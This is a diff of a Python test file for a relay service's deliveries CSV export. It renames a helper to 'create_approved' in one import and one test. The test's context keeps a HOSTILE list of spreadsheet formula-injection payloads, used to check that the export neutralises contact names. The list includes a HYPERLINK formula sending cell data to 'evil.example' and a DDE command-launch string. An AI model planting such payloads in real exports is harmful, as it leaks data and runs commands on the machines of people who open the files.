@@ -15,7 +15,7 @@ from hub.relay.answers import record_answers
 from hub.relay.clock import ManualClock
 from hub.relay.tally import export_csv
 from hub.runtime import Runtime
-from tests.api.support import bearer, create, seed
+from tests.api.support import bearer, create_approved, seed
 from tests.relay.support import seed_staff, start
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
@@ -51,7 +51,7 @@ def test_the_deliveries_csv_neutralises_contact_names(app: Flask, runtime: Runti
     with runtime.session() as s:
         s.execute(update(Contact).values(name=HOSTILE[1]))
     client = app.test_client()
-    message_id = create(client).get_json()["message_id"]
+    message_id = create_approved(client)["message_id"]
     export = client.get(f"/api/v1/messages/{message_id}/deliveries.csv", headers=bearer())
     rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
     people = [r for r in rows if r["contact_id"]]
